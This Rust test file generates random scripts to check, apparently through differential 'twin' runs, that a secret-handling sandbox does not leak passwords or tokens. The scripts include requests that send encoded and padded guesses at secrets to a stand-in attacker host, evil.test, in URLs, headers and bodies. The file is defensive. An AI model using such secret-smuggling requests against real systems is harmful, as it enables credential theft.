//! Random scripts as twin runs. The same seed gives the same scripts.
//!
//! `TWIN_SCRIPTS` sets how many scripts each case runs, and `TWIN_SEED` where they start.

use crate::case::Case;
use crate::twins::{CLASS, Rules, Run, compare, plants, run};
use crate::world::World;
use serde_json::{Value, json};

/// The number of cases, so that shards run them at the same time.
const CASES: u64 = 4;
/// The number of scripts in each case, unless `TWIN_SCRIPTS` sets it.
const SCRIPTS: u64 = 12;
const SEED: u64 = 20_261_118;

/// The secrets of a run: a short property, a long one, a VM's password, and the token that
/// servers hand out.
type Secrets = [&'static str; 4];

/// The first run is the one whose secrets the scripts guess. In the second one all are
/// different and have other lengths, and in the third one all are equal.
const RUNS: [Secrets; 3] = [
    ["k3x9Qz7m", "Wm4TqLr81ZpK0cVb6NhXyE2d", "pA55-of-vm", "gAAAA-token-1"],
    ["Zfremd-anders-laenger-Q81x", "y7", "another-password-of-a-vm-000001", "tk"],
    ["same-value-0001", "same-value-0001", "same-value-0001", "same-value-0001"],
];

pub(super) fn cases() -> Vec<Case> {
    let case = |number: u64| {
        let name = format!("random scripts, part {} of {CASES}", number + 1);
        let case = Case::new(CLASS, &name, &[], move |world| {
            let (seed, count) = (setting("TWIN_SEED", SEED), setting("TWIN_SCRIPTS", SCRIPTS));
            (0..count).try_for_each(|script| compare_random(world, seed.wrapping_add(number << 32 | script)))
        });
        case.may_contact(&["dns", "api:443", "evil:443", "5.6.7.20:443"])
    };
    (0..CASES).map(case).collect()
}

fn setting(name: &str, default: u64) -> u64 {
    std::env::var(name).ok().and_then(|value| value.parse().ok()).unwrap_or(default)
}

fn compare_random(world: &World, seed: u64) -> Result<(), String> {
    let mut random = Random(seed);
    let creates_vm = random.below(3) == 0;
    let calls: Vec<Value> = (0..=random.below(2)).map(|_| random.script(creates_vm)).collect();
    let runs = RUNS.map(|secrets| one_run(world, secrets, &calls, creates_vm));
    compare(world, &runs, Rules::default())
        .map_err(|why| format!("with TWIN_SEED={seed}, the first script of part 1: {why}"))
}

fn one_run(world: &World, secrets: Secrets, calls: &[Value], creates_vm: bool) -> Run {
    let [short, long, vm, token] = secrets;
    let slot = |kind: &str, place: &str| json!({"method": "POST", "path": format!("/v1/slot/{kind}"), "place": place, "takes": ["short", "long", "token", "agent"]});
    let capture = |kind: &str, place: &str, name: &str| json!({"method": "POST", "path": format!("/v1/capture/{kind}"), "place": place, "as": name});
    let json_type = json!({"Content-Type": "application/json"});
    let row = json!({
        "method": if creates_vm { "create_vm" } else { "create_disk" },
        "vm_env": {"bosh": {"password": vm, "group": "g"}},
        "config": {
            "properties": {"region": "here", "short": short, "long": long, "list": [short, long]},
            "agent": {"mbus": format!("nats://n:{vm}@10.0.0.6:4222")}, "limits": {"http_total_mib": 2, "http_requests": 60},
        },
        "policy": {"expose": ["region"], "logins": {"main": {"to": "https://id.iaas.test", "path": "/tokens", "body": {"password": "${long}"},
            "token": "header:X-Subject-Token", "send": {"header": "X-Auth-Token"}, "show": {"catalog": "json:/catalog"}}}},
        "grants": [
            {"id": "api", "to": "https://api.iaas.test", "methods": ["GET", "HEAD", "POST"], "paths": ["/v1/**"], "auth": {"login": "main"},
             "slots": [slot("json", "json:/a/data"), slot("form", "form:data"), slot("xml", "xml:/r/data"), slot("part", "part:data"), slot("header", "header:X-Data"), slot("body", "body")],
             "captures": [capture("json", "json:/token", "token"), capture("header", "header:X-Token", "other"), capture("xml", "xml:Token", "third")]},
            {"id": "open", "to": "https://evil.test", "methods": ["GET", "POST"], "paths": ["/**"]},
        ],
        "names": {"id.iaas.test": ["5.6.7.20"]},
        "serve": {
            "id.iaas.test": {"headers": {"X-Subject-Token": token, "Content-Type": "application/json"}, "body": {"catalog": ["a"]}},
            "api.iaas.test/v1/broken": {"raw": "nonsense"},
            "api.iaas.test/v1/refused": {"status": 401},
            "api.iaas.test/v1/blank": {"headers": json_type, "body": {"id": 1, "adminPass": vm, "secret": token}},
            "api.iaas.test/v1/capture/json": {"headers": json_type, "body": {"token": token, "id": 2}},
            "api.iaas.test/v1/capture/header": [{"headers": {"X-Token": RUNS[0][0]}}, {"headers": {"X-Token": token}}],
            "api.iaas.test/v1/capture/xml": {"headers": {"Content-Type": "text/xml"}, "body": format!("<r><Token>{token}</Token></r>")},
            "evil.test/echo": {"echo": true},
            "evil.test/broken": {"raw": "nonsense"},
        },
        "calls": calls,
    });
    run(world, short, row, &secrets)
}

/// SplitMix64.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    fn below(&mut self, bound: usize) -> usize {
        usize::try_from(self.next() % bound as u64).unwrap_or_default()
    }

    fn one_of<'a>(&mut self, all: &[&'a str]) -> &'a str {
        all[self.below(all.len())]
    }

    fn script(&mut self, creates_vm: bool) -> Value {
        // The first operations hand out seals that all others can use.
        let mut operations = vec![json!({"op": "config"})];
        if creates_vm {
            let encodings = [json!([]), json!(["base64"]), json!(["json-string"])][self.below(3)].clone();
            operations.push(json!({"op": "agent.bootstrap", "vm_name": self.guess(), "encodings": encodings}));
        } else {
            operations.push(json!({"op": "clock.ending"}));
        }
        let count = 3 + self.below(8);
        operations.extend((0..count).map(|_| self.operation(creates_vm)));
        Value::Array(operations)
    }

    /// Returns a guess at any secret, in any form.
    fn guess(&mut self) -> String {
        let secret = RUNS[0][self.below(4)];
        self.form_of(secret)
    }

    /// Returns a guess at a secret that is too short for the tripwire, for answers.
    fn short_guess(&mut self) -> String {
        let secret = [RUNS[0][0], RUNS[0][2]][self.below(2)];
        self.form_of(secret)
    }

    fn form_of(&mut self, secret: &str) -> String {
        let mut all = plants(secret);
        let padding = ["", "", "-", "x "][self.below(4)].repeat(self.below(900));
        padding + &all.swap_remove(self.below(all.len()))
    }

    fn operation(&mut self, creates_vm: bool) -> Value {
        match self.below(12) {
            0 | 1 => self.slot(creates_vm),
            2 => {
                json!({"op": "http", "method": "POST", "url": format!("https://api.iaas.test/v1/capture/{}", self.one_of(&["json", "header", "xml"])), "repeat": 1 + self.below(3)})
            }
            3 => {
                let query = [String::new(), format!("?q={}", self.guess())];
                let path = self.one_of(&["broken", "blank", "refused", "x"]);
                json!({"op": "http", "url": format!("https://api.iaas.test/v1/{path}{}", query[self.below(2)])})
            }
            4 => {
                json!({"op": "http", "url": format!("https://{}/{}", self.one_of(&["api.iaas.test/v1", "api.iaas.test", "evil.test", "other.test", "evil.test:8443"]), self.guess())})
            }
            5 => {
                json!({"op": "http", "method": "POST", "url": format!("https://evil.test/echo?{}", self.short_guess()), "headers": {"X-A": self.short_guess()}, "body": self.short_guess()})
            }
            6 => json!({"op": "http", "url": format!("https://evil.test/broken/{}", self.guess())}),
            7 => {
                json!({"op": "http", "method": self.one_of(&["GET", "HEAD", "POST", "PUT"]), "url": "https://api.iaas.test/v1/x", "headers": {self.one_of(&["X-A", "Authorization", "X-Auth-Token", "Cookie", "If-Match", "Range"]): self.guess()}})
            }
            8 => json!({"op": "session", "name": if self.below(2) == 0 { "main".to_owned() } else { self.guess() }}),
            9 => json!({"op": "log", "message": self.guess(), "repeat": 1 + self.below(5)}),
            10 if creates_vm => {
                json!({"op": "agent.bootstrap", "vm_name": "x".repeat(self.below(6000)), "repeat": 1 + self.below(5)})
            }
            10 => json!({"op": "registry.get", "id": self.guess()}),
            _ => {
                json!({"op": "http", "method": "POST", "url": "https://api.iaas.test/v1/slot/json", "headers": {"Content-Type": "application/json"}, "body": {"a": {"data": "{{props.short}}"}, "pad": "p".repeat(self.below(400_000)), "guess": self.guess()}, "repeat": 1 + self.below(8)})
            }
        }
    }

    /// Returns a request with a seal in a slot, or beside one, or changed.
    fn slot(&mut self, creates_vm: bool) -> Value {
        let mut seals = vec![
            "{{props.short}}",
            "{{props.long}}",
            "{{props.list.0}}",
            "{{props.short|upper}}",
            "x{{props.long}}",
            "{{props.short|base64}}",
        ];
        if creates_vm {
            seals.extend(["{{1.ok}}", "{{1.ok}}", "{{1.ok|first}}"]);
        }
        let seal = self.one_of(&seals).to_owned();
        let guess = self.guess();
        let boundary: String = guess.chars().filter(char::is_ascii_alphanumeric).take(40).chain("X".chars()).collect();
        let kind = self.one_of(&["json", "form", "xml", "part", "header", "body"]);
        let (content_type, body) = match kind {
            "json" => ("application/json".to_owned(), json!({"a": {"data": seal}, "b": guess}).to_string()),
            "form" => ("application/x-www-form-urlencoded".to_owned(), format!("a=1&data={seal}")),
            "xml" => ("text/xml".to_owned(), format!("<r><data>{seal}</data></r>")),
            "part" => {
                let part = format!(
                    "--{boundary}\r\nContent-Disposition: form-data; name=\"data\"\r\n\r\n{seal}\r\n--{boundary}--\r\n"
                );
                (format!("multipart/form-data; boundary={boundary}"), part)
            }
            _ => ("text/plain".to_owned(), if kind == "body" { seal.clone() } else { "x".to_owned() }),
        };
        let mut headers = json!({"Content-Type": content_type});
        if kind == "header" {
            headers["X-Data"] = json!(seal);
        }
        json!({"op": "http", "method": "POST", "url": format!("https://api.iaas.test/v1/slot/{kind}"), "headers": headers, "body": body})
    }
}
